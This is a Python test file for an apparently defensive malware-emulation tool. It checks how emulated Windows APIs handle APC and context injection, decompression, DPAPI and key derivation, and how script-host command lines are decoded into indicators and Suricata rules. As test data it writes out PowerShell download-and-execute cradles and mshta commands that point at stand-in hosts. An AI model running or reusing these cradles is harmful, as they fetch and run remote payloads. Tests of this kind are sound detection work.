"""Chains nobody here wrote, probed, round 3 (issue: probes3). What each probe showed before its fix:

* ``native-apc-continue``: ntdll's ``NtQueueApcThread``, ``NtTestAlert`` and ``NtContinue`` were
  signature-emulated (0, nothing done): neither the APC queued to the loader's own thread nor the
  CONTEXT whose Rip was the payload ran. An APC to the calling thread now waits for an alertable
  moment (``NtTestAlert``, an alertable ``SleepEx``) and runs there (``via: apc``); ``NtContinue``
  / ``RtlRestoreContext`` resume the thread with the CONTEXT (``via: context``). ``NtDelayExecution``
  was signature-emulated too: a 30 s sleep left the clock where it was (a sleep-skipping check
  saw through it); it sleeps the virtual clock now.
* ``file-xpress``: ``RtlDecompressBuffer(Ex)`` knew LZNT1 only (``STATUS_UNSUPPORTED_COMPRESSION``
  for XPRESS and XPRESS_HUFF) and ``RtlGetCompressionWorkSpaceSize`` was signature-emulated (a
  zero size). Then, both payloads unpacked: the thread's stage (run last, Speakeasy starts threads
  after the run) was traced to the other file, whose unpacked copy was the latest with the same
  bytes; the carrier that put exactly the stage's bytes at the stage's own address now comes first.
"""

from __future__ import annotations

import base64
import hashlib
from collections.abc import Callable
from typing import Any

import pytest

from emulator.apis import dpapi
from emulator.apis.cryptoapi import derive_aes_key
from emulator.apis.netapi import content_decoded
from emulator.backends.speakeasy.scripthosts import script_commands
from emulator.responders.base import HttpResponse

Report = dict[str, Any]


def _calls(report: Report, api: str) -> list[dict[str, Any]]:
    return [c for c in report["api_calls"] if c["api"] == api]


def test_an_apc_to_the_own_thread_runs_at_nt_test_alert_and_nt_continue_loads_a_context(
    scenario_report: Callable[[str], Report],
) -> None:
    report = scenario_report("native-apc-continue")
    assert not [n for n in report["notes"] if n["what"] == "signature_emulated"]
    s1, s2 = report["stages"][1:]
    assert (s1["via"], s1["parent"], s2["via"], s2["parent"]) == ("apc", "s0", "context", "s0")
    # the APC was kept until NtTestAlert, and ran before NtTestAlert returned to the loader
    alert = _calls(report, "ntdll.NtTestAlert")[0]
    queued = _calls(report, "ntdll.NtQueueApcThread")[0]
    assert queued["seq"] < alert["seq"] < s1["seq_range"][0]
    after = min(c["seq"] for c in report["api_calls"] if c["seq"] > alert["seq"] and c["stage"] == "s0")
    assert s1["seq_range"][1] < after
    # NtContinue never returned: the payload's calls follow it, then the return address it was given
    resumed = _calls(report, "ntdll.NtContinue")[0]
    assert resumed["seq"] < s2["seq_range"][0]
    assert [c["api"] for c in report["api_calls"] if c["seq"] > s2["seq_range"][1]] == ["kernel32.ExitProcess"]
    assert [c["args"][0] for c in _calls(report, "kernel32.ExitProcess")] == ["0x0"]
    # NtDelayExecution(FALSE, -30 s) moved the clock: the loader's GetTickCount64 check passed
    assert report["virtual_time"]["skipped_ms"] == 30_000


def test_xpress_payloads_are_unpacked_and_each_traced_to_its_own_file(
    scenario_report: Callable[[str], Report],
) -> None:
    report = scenario_report("file-xpress")
    assert not [n for n in report["notes"] if n["what"] == "signature_emulated"]
    s1, s2 = report["stages"][1:]
    assert (s1["via"], s2["via"]) == ("call", "thread")
    assert s1["origin"]["ref"].endswith("update.xpr") and s2["origin"]["ref"].endswith("update.xph")
    assert [(h["source"], h["transform"], h["ref"]) for h in s2["lineage"]] == [
        ("file", "source", "C:\\ProgramData\\ChainreplayDemo\\update.xph"),
        ("api", "decompress", "ntdll.RtlDecompressBufferEx"),
    ]
    refs = {b["ref"] for b in report["buffers"] if b["source"] == "decompress"}
    assert refs == {"ntdll.RtlDecompressBufferEx (XPRESS_HUFF)", "ntdll.RtlDecompressBuffer (XPRESS)"}
    sizes = _calls(report, "ntdll.RtlGetCompressionWorkSpaceSize")
    assert [c["ret"] for c in sizes] == ["0x0"]


def test_script_hosts_say_what_they_would_have_run(scenario_report: Callable[[str], Report]) -> None:
    report = scenario_report("script-hosts")
    notes = [n["detail"] for n in report["notes"] if n["what"] == "script_command"]
    cradle = "IEX (New-Object Net.WebClient).DownloadString('http://cdn.example-update.net/stage.ps1')"
    assert notes == [
        f"powershell.exe -EncodedCommand, decoded from UTF-16LE base64: {cradle}; "
        "URLs: http://cdn.example-update.net/stage.ps1; the script host is not emulated",
        "mshta.exe url: http://cdn.example-update.net/update.hta; URLs: http://cdn.example-update.net/update.hta; "
        "the script host is not emulated",
        "wscript.exe script: C:\\Users\\Public\\sync.js; the script host is not emulated",
    ]
    by_technique = {a["technique"]: a for a in report["attack"]}
    powershell = next(n for n in report["notes"] if n["detail"].startswith("powershell"))
    assert by_technique["T1059.001"]["evidence"] == by_technique["T1027.010"]["evidence"] == [powershell["seq"]]
    assert "T1218.005" in by_technique


def test_urls_in_a_script_command_are_iocs_seen_in_a_command_line(
    scenario_report: Callable[[str], Report], scenario_outdir: Callable[[str], Any]
) -> None:
    """The URLs a script host's command line names (PowerShell's decoded cradle, mshta's URL)
    are indicators as the contacted ones are, marked as seen in a command line, not contacted:
    the note's ``urls``, iocs.csv, STIX indicators and Suricata rules (role ``command_line``)."""
    import csv
    import json

    report = scenario_report("script-hosts")
    urls = ["http://cdn.example-update.net/stage.ps1", "http://cdn.example-update.net/update.hta"]
    assert [n.get("urls") for n in report["notes"] if n["what"] == "script_command"] == [urls[:1], urls[1:], None]
    assert report["network"] == []
    out = scenario_outdir("script-hosts")
    rows = {(r["value"], r["type"]): r for r in csv.DictReader((out / "iocs.csv").open(encoding="utf-8"))}
    for value, kind in [(urls[0], "url"), (urls[1], "url"), ("cdn.example-update.net", "domain")]:
        assert rows[value, kind]["stage"] == "s0"
        assert rows[value, kind]["description"].endswith("named in a command line (script_command), not contacted")
    patterns = {o.get("pattern") for o in json.loads((out / "stix-bundle.json").read_text())["objects"]}
    assert {f"[url:value = '{u}']" for u in urls} | {"[domain-name:value = 'cdn.example-update.net']"} <= patterns
    rules = (out / "detections" / "suricata.rules").read_text().splitlines()
    cradle = [r for r in rules if "command_line cdn.example-update.net/stage.ps1" in r]
    assert len(cradle) == 1 and 'http.uri; content:"/stage.ps1"' in cradle[0]
    assert len([r for r in rules if "command_line" in r]) == 2


def _encoded(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    ("line", "how", "text"),
    [
        (f"powershell -e {_encoded('calc')}", "EncodedCommand", "calc"),
        (f'"C:\\x\\PowerShell.EXE" -ep bypass -ENC "{_encoded("a b")}"', "EncodedCommand", "a b"),
        (f"pwsh -NoLogo -EncodedCo {_encoded('x')}", "EncodedCommand", "x"),
        ("powershell -ExecutionPolicy Bypass -File C:\\a.ps1", "File", "C:\\a.ps1"),
        ('powershell -w hidden -c "iwr http://h.example/a"', "Command", '"iwr http://h.example/a"'),
        ("powershell Get-Process -Name x", "Command", "Get-Process -Name x"),
        (f"cmd /c echo a & powershell /enc {_encoded('y')}", "EncodedCommand", "y"),
        ("mshta javascript:alert(1)", "inline", "javascript:alert(1)"),
        ("cscript //nologo C:\\s.vbs arg", "script", "C:\\s.vbs"),
    ],
)
def test_script_command_lines_are_read_as_the_host_reads_them(line: str, how: str, text: str) -> None:
    program = line.split('"')[1] if line.startswith('"') else line.split()[0]
    found = script_commands(program, line, lambda t: t)
    assert [(c.how, c.text) for c in found] == [(how, text)]


def test_what_is_no_script_host_or_no_base64_is_said_so() -> None:
    assert script_commands("notepad.exe", "notepad.exe x.ps1", lambda t: t) == []
    assert script_commands("powershell.exe", "powershell.exe -NoProfile", lambda t: t) == []
    (bad,) = script_commands("powershell.exe", "powershell.exe -enc !!notbase64", lambda t: t)
    assert bad.error == "not base64" and "not decoded" in bad.detail()


def test_a_stager_over_wsa_calls_gets_its_stage(scenario_report: Callable[[str], Report]) -> None:
    report = scenario_report("wsa-stager-x86")
    assert [c["args"][0] for c in _calls(report, "kernel32.ExitProcess")] == ["0x0"]  # the peek left the length
    assert not [n for n in report["notes"] if n["what"] == "signature_emulated"]
    (exchange,) = [n for n in report["network"] if n["kind"] == "tcp"]
    assert (exchange["request"]["size"], exchange["responder"]) == (len("HELO probe\n"), "relay")
    s1 = report["stages"][1]
    received = _calls(report, "ws2_32.WSARecv")[0]
    assert s1["origin"]["type"] == "network" and received["seq"] in s1["origin"]["evidence"]
    # the two WSABUFs filled one after the other are one read of the whole stage
    assert [h["source"] for h in s1["lineage"]] == ["network"]


def test_aes_from_a_derived_key_and_a_dpapi_blob_are_decrypted(scenario_report: Callable[[str], Report]) -> None:
    report = scenario_report("crypt-derive-dpapi")
    assert [c["args"][0] for c in _calls(report, "kernel32.ExitProcess")] == ["0x0"]  # the round trip agreed
    assert [c["ret"] for c in _calls(report, "advapi32.CryptDeriveKey")] == ["0x1"]
    s1, s2 = report["stages"][1:]
    assert [h["ref"] for h in s1["lineage"]] == ["C:\\ProgramData\\ChainreplayDemo\\update.bin", "CryptDecrypt"]
    assert [h["ref"] for h in s2["lineage"]] == [
        "C:\\ProgramData\\ChainreplayDemo\\cache.dat",
        "crypt32.CryptUnprotectData",
    ]


def test_dpapi_blobs_open_with_their_entropy_only() -> None:
    blob = dpapi.protect(b"payload", b"salt", "desc")
    assert blob[4:20] == dpapi.PROVIDER.bytes_le
    assert dpapi.unprotect(blob, b"salt") == (b"payload", "desc")
    with pytest.raises(dpapi.DpapiError):
        dpapi.unprotect(blob, b"other")
    with pytest.raises(dpapi.DpapiError):
        dpapi.unprotect(blob[:-1] + bytes([blob[-1] ^ 1]), b"salt")
    with pytest.raises(dpapi.DpapiError):
        dpapi.unprotect(blob[:30], b"salt")


class _KeyApi:
    """Enough of GuestApi for derive_aes_key: the key it made."""

    def __init__(self) -> None:
        from emulator.services import ReplayServices

        self.services = ReplayServices.__new__(ReplayServices)
        self.services.handles = {}
        self.services._next_handle = 0x1000
        self.error = 0
        self.written: dict[int, int] = {}

    def write_ptr(self, address: int, value: int) -> None:
        self.written[address] = value

    def set_last_error(self, code: int) -> None:
        self.error = code


@pytest.mark.parametrize(
    ("hash_name", "algid", "expected"),
    [
        # a SHA-2 value long enough: its first bytes
        ("sha256", 0x6610, hashlib.sha256(b"pw").digest()),
        ("sha256", 0x660E, hashlib.sha256(b"pw").digest()[:16]),
        # MD5 (and SHA-1): the value XORed into 0x36 and 0x5C pads, each hashed, joined
        (
            "md5",
            0x6610,
            (
                hashlib.md5(bytes(b ^ 0x36 for b in hashlib.md5(b"pw").digest().ljust(64, b"\0"))).digest()
                + hashlib.md5(bytes(b ^ 0x5C for b in hashlib.md5(b"pw").digest().ljust(64, b"\0"))).digest()
            ),
        ),
    ],
)
def test_crypt_derive_key_derives_aes_keys_as_windows_does(hash_name: str, algid: int, expected: bytes) -> None:
    api = _KeyApi()
    digest = hashlib.new(hash_name, b"pw").digest()
    assert derive_aes_key(api, hash_name, digest, [0, algid, 0, 0, 0x500]) == 1  # type: ignore[arg-type]
    key = api.services.handles[api.written[0x500]]
    assert key.secret == expected


def test_a_gzip_answer_is_read_decoded_when_the_guest_asked_for_it(scenario_report: Callable[[str], Report]) -> None:
    report = scenario_report("winhttp-gzip-proxy")
    assert report["outcome"]["status"] == "completed"
    (exchange,) = [n for n in report["network"] if n["kind"] == "http"]
    assert exchange["request"]["headers"]["Accept-Encoding"] == "gzip, deflate"
    assert exchange["response"]["headers"]["Content-Encoding"] == "gzip"
    s1 = report["stages"][1]
    read = sum(int(c["args"][2], 0) for c in _calls(report, "winhttp.WinHttpReadData"))
    assert read != exchange["response"]["size"]  # the decompressed body, not the gzip bytes
    assert int(_calls(report, "kernel32.VirtualAlloc")[0]["args"][1], 0) == read
    assert [h["source"] for h in s1["lineage"]] == ["network", "memory"]


@pytest.mark.parametrize("encoding", ["gzip", "deflate", "raw-deflate", "identity", "broken"])
def test_content_decoding(encoding: str) -> None:
    import gzip
    import zlib

    body = b"payload " * 50
    encoded = {
        "gzip": gzip.compress(body),
        "deflate": zlib.compress(body),
        "raw-deflate": zlib.compress(body)[2:-4],
        "identity": body,
        "broken": b"\x1f\x8b not gzip",
    }[encoding]
    header = {"raw-deflate": "deflate", "broken": "gzip"}.get(encoding, encoding)
    response = HttpResponse(200, {"Content-Encoding": header}, encoded)
    assert content_decoded(response) == (encoded if encoding == "broken" else body)


def test_early_bird_apc_injection_completes(scenario_report: Callable[[str], Report]) -> None:
    report = scenario_report("inject-earlybird")
    assert report["outcome"]["status"] == "completed"
    assert [r["error"] for r in report["runs"]] == [None, None]  # no run of notepad's own entry
    s1 = report["stages"][1]
    assert (s1["via"], s1["process"]) == ("apc", "C:\\Windows\\System32\\notepad.exe")
    assert [c["ret"] for c in _calls(report, "kernel32.ResumeThread")] == ["0x1"]
